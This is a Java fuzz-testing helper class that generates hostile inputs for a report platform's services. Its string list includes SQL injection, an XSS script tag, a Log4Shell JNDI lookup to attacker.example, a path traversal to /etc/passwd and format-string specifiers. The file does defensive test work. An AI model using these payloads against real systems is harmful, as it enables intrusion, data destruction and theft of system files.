package org.reportplatform.contracts.fuzz;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;

/**
 * Hostile building blocks for the services' fuzz tests: strings an attacker or a broken client sends, JSON values of
 * the wrong type or beyond every bound, bytes that are not UTF-8. Seeded, so a failure can be replayed.
 */
public final class Hostile {

    private static final List<String> STRINGS = List.of(
            "", " ", "null", "undefined", "'; DROP TABLE submission; --", "\" OR \"1\"=\"1", "<script>alert(1)</script>",
            "${jndi:ldap://attacker.example/a}", "../../../../etc/passwd", "%s%s%s%n", "\u0000", "\u202e360722",
            "\u200b360722", "３６０７２２", "360722\n", "360722 ", "36072２", "\uD83D\uDE00", "\uD800", "信丰县",
            "x".repeat(10_000), "\\", "\"", "{}", "[]", "-1", "1e999999", "NaN", "0x1F", "2020-01", "9".repeat(400));

    private static final List<String> JSON_VALUES = List.of(
            "1e999999", "-1e999999", "123456789012345678901234567890123", "-0", "1.0000000000000000000001",
            "NaN", "Infinity", "-Infinity", "true", "false", "[]", "{}", "null", "\"\"", "\"\\u0000\"", "0x10", "01",
            "1_000", ".5", "[" .repeat(2_000) + "]".repeat(2_000), "{\"a\":" .repeat(1_500) + "1" + "}".repeat(1_500),
            "\"" + "x".repeat(100_000) + "\"");

    private Hostile() {
    }

    public static String string(Random random) {
        return STRINGS.get(random.nextInt(STRINGS.size()));
    }

    /** A JSON value, as written into a document: often of the wrong type, beyond bounds, or not JSON at all. */
    public static String jsonValue(Random random) {
        return random.nextInt(3) == 0 ? quote(string(random)) : JSON_VALUES.get(random.nextInt(JSON_VALUES.size()));
    }

    /** Bytes no UTF-8 decoder accepts: a lone continuation, an overlong form, a truncated sequence, 0xFF. */
    public static byte[] invalidUtf8(Random random) {
        byte[][] broken = {{(byte) 0x80}, {(byte) 0xC0, (byte) 0xAF}, {(byte) 0xE4, (byte) 0xBD}, {(byte) 0xFF},
                {(byte) 0xED, (byte) 0xA0, (byte) 0x80}};
        return broken[random.nextInt(broken.length)];
    }

    /**
     * A hostile string, percent-encoded for a query or a path segment; at most about 1,000 characters, as a request
     * line over 4 KiB never reaches the application (the HTTP layer answers 414 itself).
     */
    public static String encoded(Random random) {
        String text = string(random);
        return URLEncoder.encode(text.substring(0, Math.min(text.length(), 300)), StandardCharsets.UTF_8).replace("+", "%20");
    }

    /** A JSON string literal of {@code text}, escaped as JSON requires. */
    public static String quote(String text) {
        StringBuilder out = new StringBuilder("\"");
        text.codePoints().forEach(c -> {
            switch (c) {
                case '"' -> out.append("\\\"");
                case '\\' -> out.append("\\\\");
                default -> {
                    if (c < 0x20) {
                        out.append(String.format("\\u%04x", c));
                    } else {
                        out.appendCodePoint(c);
                    }
                }
            }
        });
        return out.append('"').toString();
    }
}
